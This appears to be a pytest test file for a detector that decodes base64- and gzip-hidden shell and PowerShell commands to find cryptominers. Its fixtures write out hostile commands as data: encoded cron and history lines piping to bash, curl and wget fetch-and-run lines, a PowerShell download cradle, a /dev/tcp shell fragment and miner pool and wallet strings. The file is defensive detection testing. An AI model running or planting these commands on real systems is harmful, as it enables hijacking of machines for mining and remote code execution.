"""The base64-hidden miner detector: encoded payloads in commands, decoded and matched."""

from __future__ import annotations

import base64
import gzip
import time
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from deminer.case import Case
from deminer.detect import iocs
from deminer.detect.engine import detect, run_rule
from deminer.detect.finding import Finding
from deminer.detect.python import DETECTORS, base64_hidden
from deminer.detect.rules import RULES_DIR, load_rule, load_rules

RULE = load_rule(RULES_DIR / "defense_evasion" / "base64_hidden_miner.yml")
WALLET = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"


def b64(text: str | bytes, urlsafe: bool = False) -> str:
    raw = text.encode() if isinstance(text, str) else text
    return (base64.urlsafe_b64encode(raw) if urlsafe else base64.b64encode(raw)).decode()


def run(**tables: list[dict[str, Any]]) -> list[Finding]:
    with Case(None) as case:
        iocs.load_shipped(case)
        for table, rows in tables.items():
            case.add(table, rows)
        return run_rule(case, RULE)


def cron(command: str, line: int = 1) -> dict[str, Any]:
    return {"host": "web1", "kind": "cron", "location": "/etc/cron.d/apache", "source_line": line,
            "command": command, "user": "root"}


def history(command: str, line: int = 1) -> dict[str, Any]:
    return {"host": "web1", "event": "shell_command", "source": "/root/.bash_history",
            "source_line": line, "user": "root", "command": command}


def test_registered_and_named_by_its_rule() -> None:
    assert DETECTORS["base64_hidden"] is base64_hidden.detect
    assert RULE.detector == "base64_hidden" and RULE.examples_in == "tests/detect/test_base64_hidden.py"
    assert RULE.id in {r.id for r in load_rules()}


def test_cron_echo_base64_to_shell_with_stratum_and_wallet() -> None:
    payload = f"nohup /tmp/.x/sshd -o stratum+tcp://pool.supportxmr.com:443 -u {WALLET} &"
    found = run(persistence=[cron(f"*/5 * * * * root echo {b64(payload)} | base64 -d | bash")])
    assert len(found) == 1
    f = found[0]
    assert (f.rule, f.severity, f.entity) == (RULE.id, "high", "/etc/cron.d/apache:1")
    assert f.evidence["stratum"] == "stratum+tcp://pool.supportxmr.com:443"
    assert f.evidence["wallet"] == WALLET
    assert f.evidence["pool"] == "pool.supportxmr.com"
    assert f.evidence["decoded"] == payload
    assert f.evidence["decoder"] == "base64 -d"
    assert f.evidence["location"] == "/etc/cron.d/apache" and f.evidence["line"] == 1
    assert "stratum URL stratum+tcp://pool.supportxmr.com:443" in f.summary
    assert f.summary.startswith("Autostart cron entry /etc/cron.d/apache:1 hides base64")


def test_process_cmdline_urlsafe_payload_names_pool_domain() -> None:
    payload = "./x --url=gulf.moneroocean.stream:10128 --coin monero --donate-level=0 ??>"
    cmd = f"python3 -c \"import base64,os;os.system(base64.urlsafe_b64decode('{b64(payload, True)}'))\""
    assert "-" in b64(payload, True) or "_" in b64(payload, True)
    found = run(processes=[{"host": "web1", "pid": 4242, "name": "python3", "exe": "/usr/bin/python3.11",
                            "cmdline": cmd, "user": "www-data"}])
    assert [f.entity for f in found] == ["pid 4242"]
    ev = found[0].evidence
    assert ev["pid"] == 4242 and ev["cmdline"] == cmd
    assert ev["pool"] == "gulf.moneroocean.stream"
    assert ev["miner_options"] == "--coin monero --donate-level"


def test_nested_payload_is_decoded_once_more() -> None:
    inner = "curl -fsSL http://t.amynx.com/a.jsp | bash"
    outer = f"echo {b64(inner)} | base64 -d | sh"
    found = run(events=[history(f"echo {b64(outer)}|base64 --decode|sh")])
    assert len(found) == 1
    ev = found[0].evidence
    assert ev["layers"] == 2 and ev["decoded"] == inner
    assert ev["indicator"] == "t.amynx.com" and ev["download"] == inner
    assert "nested twice" in found[0].summary and found[0].severity == "high"


def test_gzip_inside_base64_and_known_miner_name() -> None:
    payload = gzip.compress(b"wget -q http://198.51.100.9/kinsing -O /tmp/kinsing; chmod +x /tmp/kinsing")
    found = run(events=[history(f"echo {b64(payload)} | base64 -d | gunzip | sh")])
    assert len(found) == 1
    assert found[0].evidence["miner_name"] == "kinsing"
    assert found[0].evidence["encoded"].startswith("H4sI")


def test_powershell_encoded_command_utf16le() -> None:
    script = "IEX (New-Object Net.WebClient).DownloadString('http://p.abbny.com/m.ps1')"
    cmd = f"powershell.exe -NoP -W Hidden -enc {b64(script.encode('utf-16-le'))}"
    found = run(events=[{"host": "pc18", "event": "process_start", "source": "Security.evtx",
                         "source_line": 4688, "command": cmd, "process": "powershell.exe"}])
    assert [f.entity for f in found] == ["Security.evtx:4688"]
    assert found[0].evidence["decoded"] == script
    assert found[0].evidence["indicator"] == "p.abbny.com"
    assert found[0].evidence["decoder"] == "-enc"


def test_user_indicator_ip_in_payload(tmp_path: Any) -> None:
    with Case(None) as case:
        iocs.load_shipped(case)
        case.add("iocs", [{"kind": "ip", "value": "192.0.2.77", "family": "8220", "source": "user:x:1"}])
        payload = b64("exec 3<>/dev/tcp/192.0.2.77/443")
        case.add("persistence", [cron(f"* * * * * echo {payload}|base64 -d|sh")])
        found = run_rule(case, RULE)
    assert len(found) == 1 and found[0].evidence["indicator"] == "192.0.2.77"


@pytest.mark.parametrize("command", [
    "echo " + b64("hello from the backup job, nothing to see") + " | base64 -d",
    "ls /usr/local/lib/python3.11/dist-packages/some_module/submodule_with_long_name",
    "curl -H 'Authorization: Bearer " + b64('{"alg":"HS256","typ":"JWT"}', True) + "."
    + b64('{"sub":"1"}', True) + "'",
    "echo " + b64(bytes(range(256))) + " > /tmp/blob",
    "sha256sum " + "0123456789abcdef" * 4,
    "echo " + b64("curl -s https://example.org/health -o /dev/null") + " | base64 -d | sh",
])
def test_quiet_on_benign_base64_and_look_alikes(command: str) -> None:
    assert run(events=[history(command)], persistence=[cron(command)]) == []


def test_one_finding_per_command_even_with_many_payloads() -> None:
    a, b = b64("xmrig -o stratum+tcp://1.2.3.4:3333"), b64(f"./run -u {WALLET}")
    found = run(events=[history(f"echo {a}|base64 -d|sh; echo {b}|base64 -d|sh", line=7)])
    assert len(found) == 1
    assert found[0].evidence["stratum"] == "stratum+tcp://1.2.3.4:3333"
    assert found[0].evidence["wallet"] == WALLET


def test_control_characters_in_decoded_text_are_escaped() -> None:
    payload = "\x1b[2J\x1b]0;owned\x07 xmrig -o stratum+ssl://pool.hashvault.pro:443"
    found = run(events=[history(f"echo {b64(payload)} | base64 -d | sh")])
    assert len(found) == 1
    for text in (found[0].summary, found[0].evidence["decoded"]):
        assert "\x1b" not in text and "\x07" not in text
    assert "\\x1b[2J" in found[0].evidence["decoded"]


def test_hostile_sizes_are_bounded_and_fast() -> None:
    bomb = b64(gzip.compress(b"\0" * 20_000_000))              # 20 MB of zeros, 20 KB gzipped
    noise = " ".join(b64(bytes([i]) * 60) for i in range(200))  # many decodable non-text runs
    huge = "A" * 2_000_000 + " " + b64("xmrig -o stratum+tcp://9.9.9.9:3333")
    start = time.monotonic()
    found = run(events=[history(f"echo {bomb} | base64 -d | gunzip | sh", 1),
                        history(noise, 2), history(huge, 3)])
    assert time.monotonic() - start < 10
    assert found == []   # the payload after 2 MB of filler is beyond the examined window


def test_payload_within_the_window_after_other_runs() -> None:
    filler = " ".join(b64(f"harmless text number {i} " * 2) for i in range(30))
    found = run(events=[history(filler + " ; echo " + b64("x -o stratum+tcp://pool.example:3333 " * 5)
                                + " | base64 -d | sh")])
    assert len(found) == 1   # the longest runs are decoded first, so filler cannot crowd it out


def test_full_detect_links_the_hidden_miner_to_its_cpu_use() -> None:
    cmd = "sh -c echo " + b64("/dev/shm/.k/kworker -o stratum+tcp://xmr.2miners.com:2222") + "|base64 -d|sh"
    with Case(None) as case:
        iocs.load_shipped(case)
        case.add("processes", [{"host": "web1", "pid": 77, "name": "sh", "exe": "/usr/bin/dash",
                                "cmdline": cmd, "cpu_percent": 97.0}])
        rules = [r for r in load_rules() if r.id in (RULE.id, "impact.cpu_hog")]
        found = detect(case, rules)
        assert case.query("SELECT * FROM errors WHERE stage = 'detect'") == []
    by_rule = {f.rule: f for f in found}
    assert by_rule[RULE.id].evidence["pid"] == 77
    assert by_rule["impact.cpu_hog"].severity == "high"
    assert RULE.id in by_rule["impact.cpu_hog"].evidence["related_rules"]


@given(st.text(max_size=300))
@settings(max_examples=150, deadline=None)
def test_decoding_and_matching_never_fail(text: str) -> None:
    ind = base64_hidden.Indicators(domains={"evil.example": "x"}, ips={"192.0.2.1": "x"},
                                   names={"xmrig": "m"})
    for layer in base64_hidden.decode_layers(text + " " + b64(text)):
        base64_hidden.match(layer.decoded, ind)
